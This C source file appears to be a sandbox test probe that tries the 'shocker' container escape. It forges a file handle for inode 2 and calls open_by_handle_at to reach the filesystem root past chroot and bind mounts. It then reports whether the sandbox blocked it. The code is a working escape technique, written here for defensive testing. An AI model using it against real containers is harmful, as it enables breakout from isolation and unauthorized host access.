// probe-open-by-handle [MOUNT=/]: open_by_handle_at with a forged handle,
// the "shocker" escape: inode 2 (the root of an ext2/3/4 filesystem) of the
// filesystem MOUNT is on, opened by number, bypassing the path walk and so
// every bind mount and chroot that hides it.
// ESCAPED: it opened (or the kernel decoded the handle and found it stale:
// ESTALE, EINVAL; reachability, see probe.h).
// Confined: killed, seccomp violation "open_by_handle_at" (always denied);
// behind it, no CAP_DAC_READ_SEARCH.
#include <fcntl.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe.h"

int main(int argc, char** argv) {
  const char* mount = probe_arg(argc, argv, 1, "/", "path on the filesystem");
  int mount_fd = open(mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) probe_setup("open %s: %s", mount, strerror(errno));
  struct {
    struct file_handle head;
    uint32_t ino, generation;  // FILEID_INO32_GEN
  } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .ino = 2, .generation = 0};
  long rc = syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (rc >= 0) {
    probe_escaped("opened inode 2 of the filesystem holding %s by a forged handle", mount);
  }
  probe_reached("open_by_handle_at", rc, (const int[]){ESTALE, EINVAL, 0});
}
